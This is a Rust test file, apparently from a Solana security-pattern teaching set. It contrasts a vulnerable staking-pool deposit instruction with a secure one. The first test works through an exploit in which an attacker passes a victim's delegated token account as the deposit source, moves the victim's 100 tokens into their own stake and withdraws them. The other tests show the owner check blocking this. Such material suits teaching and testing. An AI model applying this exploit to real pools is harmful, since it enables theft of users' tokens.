@@ -0,0 +1,320 @@
+/// # Pattern 23: Token Account Owner — Mollusk Exploit Tests
+///
+/// The victim holds 100 tokens and has approved the pool PDA as delegate
+/// for all of them, so the pool can pull their deposits. The attacker has
+/// an empty token account and an empty stake.
+///
+/// - Test 1: EXPLOIT — the attacker calls deposit_vulnerable with the
+///   victim's token account as the source. The pool pulls the victim's
+///   100 tokens into the attacker's stake, and the attacker withdraws them.
+/// - Test 2: SECURE — deposit_secure rejects the victim's token account
+///   for the attacker's deposit.
+/// - Test 3: SANITY — the victim deposits 40 of their own tokens through
+///   deposit_secure and withdraws them again.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::TokenAccount;
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("BqVzvpuApkDzakk2gDcrPgJ4kjrbAyjzNJ3q4hmhbxhs");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const RENT: u64 = 2_000_000;
+const TOKEN_RENT: u64 = 2_039_280;
+const WALLET: u64 = 10_000_000_000;
+
+/// The victim's balance, all of it approved to the pool.
+const BALANCE: u64 = 100;
+
+// Error codes
+const CONSTRAINT_TOKEN_OWNER: u32 = 2015;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account:
+///   [8 disc][32 mint][32 vault][1 bump]
+fn serialize_pool(mint: &Pubkey, vault: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(vault.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Stake account:
+///   [8 disc][32 pool][32 owner][8 amount][1 bump]
+fn serialize_stake(pool: &Pubkey, owner: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Stake"));
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize an SPL Token account, with `delegate` approved for an amount.
+fn serialize_token_account(
+    mint: &Pubkey,
+    owner: &Pubkey,
+    amount: u64,
+    delegate: Option<(&Pubkey, u64)>,
+) -> Vec<u8> {
+    TokenAccount {
+        delegate: delegate.map(|(key, amount)| (*key, amount)),
+        ..TokenAccount::new(mint, owner, amount)
+    }
+    .pack()
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "token_account_owner");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+/// One user: a wallet, a token account, and a stake in the pool.
+struct User {
+    key: Pubkey,
+    token: Pubkey,
+    stake: Pubkey,
+    stake_bump: u8,
+}
+
+impl User {
+    fn new(pool: &Pubkey) -> Self {
+        let key = Pubkey::new_unique();
+        let (stake, stake_bump) =
+            Pubkey::find_program_address(&[b"stake", pool.as_ref(), key.as_ref()], &PROGRAM_ID);
+        Self {
+            key,
+            token: Pubkey::new_unique(),
+            stake,
+            stake_bump,
+        }
+    }
+}
+
+struct Setup {
+    pool: Pubkey,
+    mint: Pubkey,
+    vault: Pubkey,
+    victim: User,
+    attacker: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let vault = Pubkey::new_unique();
+        let (pool, pool_bump) =
+            Pubkey::find_program_address(&[b"pool", mint.as_ref()], &PROGRAM_ID);
+        let victim = User::new(&pool);
+        let attacker = User::new(&pool);
+
+        let mut ledger = vec![
+            (
+                pool,
+                owned_account(&serialize_pool(&mint, &vault, pool_bump), RENT, &PROGRAM_ID),
+            ),
+            (
+                vault,
+                owned_account(
+                    &serialize_token_account(&mint, &pool, 0, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+        for (user, balance, delegate) in [
+            (&victim, BALANCE, Some((&pool, BALANCE))),
+            (&attacker, 0, None),
+        ] {
+            ledger.extend([
+                (user.key, system_account()),
+                (
+                    user.token,
+                    owned_account(
+                        &serialize_token_account(&mint, &user.key, balance, delegate),
+                        TOKEN_RENT,
+                        &TOKEN_PROGRAM_ID,
+                    ),
+                ),
+                (
+                    user.stake,
+                    owned_account(
+                        &serialize_stake(&pool, &user.key, 0, user.stake_bump),
+                        RENT,
+                        &PROGRAM_ID,
+                    ),
+                ),
+            ]);
+        }
+
+        Self {
+            pool,
+            mint,
+            vault,
+            victim,
+            attacker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// deposit_* and withdraw share one account list. `user_token` is the
+    /// source of a deposit and the destination of a withdrawal.
+    fn ix(&self, name: &str, user: &User, user_token: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.pool, false),
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(user_token, false),
+                AccountMeta::new(user.stake, false),
+                AccountMeta::new_readonly(user.key, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn stake_data(&self, user: &User, amount: u64) -> Vec<u8> {
+        serialize_stake(&self.pool, &user.key, amount, user.stake_bump)
+    }
+
+    fn token_data(&self, owner: &Pubkey, amount: u64, delegate: Option<(&Pubkey, u64)>) -> Vec<u8> {
+        serialize_token_account(&self.mint, owner, amount, delegate)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_deposit_from_victim_account_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: deposit_vulnerable(100), user_token = victim's account,
+    //      stake = attacker's
+    //   2. Attacker: withdraw(100) to their own token account
+    //
+    // Expected: both SUCCEED. The pool's delegate authority pulls the
+    //           victim's 100 tokens (their approval is used up) into the
+    //           attacker's stake, and the attacker withdraws all 100.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (victim_token, attacker_stake, attacker_token) =
+        (s.victim.token, s.attacker.stake, s.attacker.token);
+
+    let ix = s.ix("deposit_vulnerable", &s.attacker, s.victim.token, BALANCE);
+    let drained = s.token_data(&s.victim.key, 0, None);
+    let stake = s.stake_data(&s.attacker, BALANCE);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_token).data(&drained).build(),
+            Check::account(&attacker_stake).data(&stake).build(),
+        ],
+    );
+
+    let ix = s.ix("withdraw", &s.attacker, s.attacker.token, BALANCE);
+    let cashed_out = s.token_data(&s.attacker.key, BALANCE, None);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&attacker_token).data(&cashed_out).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_deposit_rejects_foreign_token_account() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker tries the same deposit through deposit_secure.
+    //
+    // Expected: FAILS with ConstraintTokenOwner (2015). The victim's token
+    //           account isn't owned by the signer, so the pool never uses
+    //           its delegate authority.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.ix("deposit_secure", &s.attacker, s.victim.token, BALANCE);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_TOKEN_OWNER))],
+    );
+}
+
+#[test]
+fn sanity_owner_deposits_and_withdraws_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The victim deposits 40 of their own tokens through
+    // deposit_secure, then withdraws them.
+    //
+    // Expected: both SUCCEED. After the deposit the victim has 60 tokens,
+    //           60 still approved, and a stake of 40; after the withdrawal
+    //           they have 100 tokens and a stake of 0.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (victim_token, victim_stake) = (s.victim.token, s.victim.stake);
+
+    let ix = s.ix("deposit_secure", &s.victim, s.victim.token, 40);
+    let remaining = s.token_data(&s.victim.key, 60, Some((&s.pool, 60)));
+    let stake = s.stake_data(&s.victim, 40);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_token).data(&remaining).build(),
+            Check::account(&victim_stake).data(&stake).build(),
+        ],
+    );
+
+    let ix = s.ix("withdraw", &s.victim, s.victim.token, 40);
+    let restored = s.token_data(&s.victim.key, BALANCE, Some((&s.pool, 60)));
+    let stake = s.stake_data(&s.victim, 0);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_token).data(&restored).build(),
+            Check::account(&victim_stake).data(&stake).build(),
+        ],
+    );
+}